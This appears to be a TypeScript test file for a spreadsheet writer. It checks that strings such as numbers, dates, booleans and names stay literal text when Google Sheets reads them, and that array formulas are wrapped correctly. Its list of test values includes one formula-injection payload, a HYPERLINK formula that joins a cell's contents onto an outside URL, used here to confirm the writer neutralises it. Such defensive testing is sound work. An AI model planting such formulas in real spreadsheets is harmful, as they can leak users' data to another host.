import fc from 'fast-check';
import { LOCALES, readAsTyped, type Locale } from '../../../dev/fake/typed';
import { asText, formulaString, writtenFormula, writtenString } from './text';

const NAMES = [
  'TRUE',
  'false',
  'WAHR',
  'falsch',
  '1850',
  '007',
  '0042',
  '+1',
  '-2',
  '1e3',
  '1,850',
  '1.850',
  '98,7',
  '50%',
  '$1,234.50',
  '3/4/2024',
  '5.3.2024',
  '1.5',
  'Mar 5',
  '12:30',
  '2024-03-04',
  "'Tis",
  "O'Neil",
  '=HYPERLINK("http://x"&A2,"x")',
  '@home',
  '#N/A',
  '#ref!',
  ' padded ',
  'Ann Lee',
  'Zoë',
  '王小明',
];

describe.each(LOCALES)('the text writer: text stays text in %s', (locale: Locale) => {
  /** What a cell holds after Sheets reads the written string as typed (the stand-in's model of Sheets' parser). */
  function readBack(written: string): unknown {
    const typed = readAsTyped(written, undefined, undefined, locale);
    if ('formula' in typed) return { formula: typed.formula };
    return 'error' in typed ? { error: typed.error } : typed.value;
  }

  it.each(NAMES)('%j reads back exactly', (name) => {
    expect(readBack(asText(name))).toBe(name);
  });

  it('leaves plain words as they are (no apostrophe where Sheets would not parse)', () => {
    for (const word of ['Ann Lee', "O'Neil", 'Zoë', '王小明', 'Moscow']) expect(asText(word)).toBe(word);
    expect(asText('')).toBe('');
  });

  it('reads back any string exactly (property, against the stand-in parser)', () => {
    fc.assert(
      fc.property(fc.string(), (s) => readBack(asText(s)) === s || s === ''),
      { numRuns: 2000 },
    );
  });

  it('writes plan strings: formulas as formulas, protected text as it is, any other text through asText', () => {
    expect(writtenString('=A1+1')).toBe('=A1+1');
    expect(writtenString("'007")).toBe("'007");
    expect(writtenString('007')).toBe("'007");
    expect(formulaString('Ann "the rock"')).toBe('"Ann ""the rock"""');
  });
});

describe('array formulas', () => {
  it('wraps a formula that computes over arrays in ARRAYFORMULA, once', () => {
    expect(writtenFormula('=SUMPRODUCT((A1:A9="x")*B1:B9)')).toBe('=ARRAYFORMULA(SUMPRODUCT((A1:A9="x")*B1:B9))');
    expect(writtenFormula('=ARRAYFORMULA(SUMPRODUCT(A1:A9))')).toBe('=ARRAYFORMULA(SUMPRODUCT(A1:A9))');
    expect(writtenFormula('=SUM(A1:A9)')).toBe('=SUM(A1:A9)');
    expect(writtenString('=IF(SUMPRODUCT((A1:A3=B1)+(A1:A3=C1))>0,"x","")')).toBe('=ARRAYFORMULA(IF(SUMPRODUCT((A1:A3=B1)+(A1:A3=C1))>0,"x",""))');
  });
});
